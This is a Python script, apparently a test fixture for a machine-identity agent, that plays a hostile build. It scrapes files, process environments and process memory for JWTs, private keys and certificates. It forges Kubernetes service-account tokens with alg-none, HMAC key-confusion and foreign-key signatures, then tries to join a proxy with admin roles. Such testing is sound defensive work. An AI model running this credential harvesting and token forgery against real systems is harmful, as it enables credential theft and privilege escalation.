# SPDX-FileCopyrightText: The machine-id authors
# SPDX-License-Identifier: Apache-2.0
"""Run by a hostile build: takes what its user can reach on the agent, and tries to become more with it.

steal.py PROXY JWKS_URL TOKEN OWN_SUBJECT; with MACHINE_ID_BIN, and SSL_CERT_FILE for the proxy. One line of JSON for each
try, then one with what was looked at. Nothing here is a secret of anybody but the tests.
"""

import base64
import hashlib
import hmac
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

JWS = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{40,}")
PROXY, JWKS_URL, TOKEN, SUBJECT = sys.argv[1:5]
WORK = Path(tempfile.mkdtemp(prefix="loot-"))
SEEN = {"files": 0, "environments": 0, "memory": 0, "unreadable": 0}


# Other agents of the tests are beside it, with processes of the same user.
AGENTS = Path(os.environ["AGENT_ROOT"]).parent


def mine(path):
    try:
        return path.lstat().st_uid == os.getuid()
    except OSError:
        return False


def files():
    """What the agents have on disk, and what this user has anywhere where anybody may write."""
    for place in (Path(os.environ["AGENT_ROOT"]), Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path("/run")):
        for folder, below, names in os.walk(place, onerror=lambda _: None):
            # What it and others like it took, and what isn't this user's.
            below[:] = [each for each in below if not each.startswith("loot-") and mine(Path(folder, each))]
            for name in names:
                path = Path(folder, name)
                try:
                    if path.is_file() and path.stat().st_uid == os.getuid() and path.stat().st_size < 100_000_000:
                        content = path.read_bytes()
                        SEEN["files"] += 1
                        yield path, content
                except OSError:
                    SEEN["unreadable"] += 1


def processes():
    """Environment, command line and memory of the agents' processes but our own: those of this user."""
    for process in Path("/proc").iterdir():
        if not process.name.isdigit() or int(process.name) == os.getpid() or not of_an_agent(process):
            continue
        for name in ("environ", "cmdline"):
            try:
                content = (process / name).read_bytes()
                SEEN["environments"] += 1
                yield process / name, content
            except OSError:
                SEEN["unreadable"] += 1
        yield from memory(process)


def of_an_agent(process):
    try:
        return Path(os.readlink(process / "cwd")).is_relative_to(AGENTS)
    except OSError:
        return False


def memory(process):
    try:
        with open(process / "maps", encoding="utf-8") as maps, open(process / "mem", "rb", 0) as mem:
            for line in maps:
                span, rights = line.split()[:2]
                begin, end = (int(part, 16) for part in span.split("-"))
                if not rights.startswith("rw") or end - begin > 600_000_000:
                    continue
                try:
                    mem.seek(begin)
                    content = mem.read(end - begin)
                except OSError:
                    continue
                SEEN["memory"] += len(content)
                yield process / "mem", content
    except OSError:
        SEEN["unreadable"] += 1


def part(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def forged():
    """Statements of our own making, all for a job that a rule names."""
    with urllib.request.urlopen(JWKS_URL, timeout=30) as reply:
        key = json.load(reply)["keys"][0]
    now = int(time.time())
    namespace, name = SUBJECT.split(":")
    claims = {"iss": JWKS_URL.rsplit("/", 1)[0], "aud": "example.test", "iat": now, "nbf": now, "exp": now + 300,
              "sub": f"system:serviceaccount:{SUBJECT}",
              "kubernetes.io": {"namespace": namespace, "pod": {"name": "x", "uid": "x"},
                                "serviceaccount": {"name": name, "uid": "1"}}}
    own = WORK / "own.pem"
    subprocess.run(["openssl", "genrsa", "-out", own, "2048"], check=True, capture_output=True)

    def rsa(text):
        return subprocess.run(["openssl", "dgst", "-sha256", "-sign", own], input=text, check=True, capture_output=True).stdout

    for kind, header, sign in (
            ("unsigned", {"alg": "RS256", "kid": key["kid"]}, lambda text: b""),
            ("alg none", {"alg": "none"}, lambda text: b""),
            ("alg none, with the key's id", {"alg": "none", "kid": key["kid"]}, lambda text: b""),
            ("public key as a password", {"alg": "HS256", "kid": key["kid"]},
             lambda text: hmac.new(json.dumps(key).encode(), text, hashlib.sha256).digest()),
            ("another key", {"alg": "RS256", "kid": "mine"}, rsa),
            ("another key under the right id", {"alg": "RS256", "kid": key["kid"]}, rsa)):
        text = f"{part(header)}.{part(claims)}"
        yield kind, f"{text}.{part(sign(text.encode()))}".encode()


def attempt(kind, roles, statement=None, storage=None):
    """Joins with a statement, or goes on as somebody whose files are in a directory."""
    place = Path(tempfile.mkdtemp(dir=WORK))
    if storage:
        (place / "storage").mkdir(0o700)
        for file in storage.iterdir():
            if file.is_file() and file.stat().st_size < 1_000_000 and os.access(file, os.R_OK):
                shutil.copyfile(file, place / "storage" / file.name)
    (place / "statement").write_bytes(statement or b"none")
    config = {"version": "v2", "proxy_server": PROXY, "oneshot": True,
              "onboarding": {"join_method": "kubernetes", "token": TOKEN,
                             "kubernetes": {"token_path": str(place / "statement")}},
              "storage": {"type": "directory", "path": str(place / "storage")},
              "outputs": [{"type": "identity", "roles": roles,
                           "destination": {"type": "directory", "path": str(place / "out")}}]}
    (place / "tbot.yaml").write_text(json.dumps(config))
    done = subprocess.run([os.environ["MACHINE_ID_BIN"], "start", "--oneshot", "-c", place / "tbot.yaml"],
                          capture_output=True, text=True, timeout=120, check=False)
    got = done.returncode == 0 or (place / "out").is_dir() and any((place / "out").glob("*cert*"))
    print("TRY " + json.dumps({"kind": kind, "roles": roles, "got": got, "said": (done.stderr or done.stdout)[-400:]}), flush=True)


def main():
    statements, stores = {}, set()
    for source in (files(), processes()):
        for path, content in source:
            for found in JWS.findall(content):
                statements.setdefault(found, str(path))
            if path.suffix not in (".jar", ".so") and not path.is_relative_to("/proc") \
                    and re.search(rb"cert-v01@openssh|BEGIN CERTIFICATE|BEGIN (RSA |EC |OPENSSH )?PRIVATE KEY", content):
                stores.add(path.parent)
    for found, where in statements.items():
        attempt(f"found in {where}", ["admins"], statement=found)
    for store in sorted(stores):
        attempt(f"files of {store}", ["admins"], storage=store)
    for kind, statement in forged():
        for roles in (["admins"], ["stated-workers"]):
            attempt(kind, roles, statement=statement)
    print("LOOT " + json.dumps({**SEEN, "statements": sorted(set(statements.values())), "stores": sorted(map(str, stores))}), flush=True)


try:
    main()
finally:
    shutil.rmtree(WORK, ignore_errors=True)
